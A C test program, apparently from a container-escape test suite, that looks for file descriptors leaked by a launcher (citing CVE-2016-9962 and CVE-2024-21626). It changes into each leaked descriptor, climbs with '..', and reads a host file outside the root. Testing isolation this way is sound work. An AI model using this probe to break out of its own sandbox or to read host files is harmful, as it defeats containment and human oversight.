/*
 * Idea: a directory that the launcher forgot to close is a door: paths below a descriptor, and ".." from it, do not
 * care where our root is.
 * Incident: CVE-2016-9962 (runc exec), CVE-2024-21626 (runc kept /sys/fs/cgroup open).
 * Success: any descriptor above 2 is open at the start; worse, the host's file can be read through it.
 * Usage: leaked-descriptor SECRET
 */
#include "attempt.h"

int main(int argc, char **argv) {
  const char *secret = argument(argc, argv, 1, "path of a file outside of our root");
  char line[256], link[32], target[256];
  for (int descriptor = 3; descriptor < 4096; descriptor++) {
    if (fcntl(descriptor, F_GETFD) < 0) continue;
    if (fchdir(descriptor) == 0) {
      climb();
      if (read_line_at(AT_FDCWD, secret + 1, line, sizeof line) == 0)
        escaped("read \"%s\" through descriptor %d", line, descriptor);
    }
    snprintf(link, sizeof link, "/proc/self/fd/%d", descriptor);
    ssize_t length = readlink(link, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = '\0';
    escaped("descriptor %d (%s) is open", descriptor, target);
  }
  errno = EBADF;
  stopped("fcntl on descriptors 3 to 4095");
  contained();
}
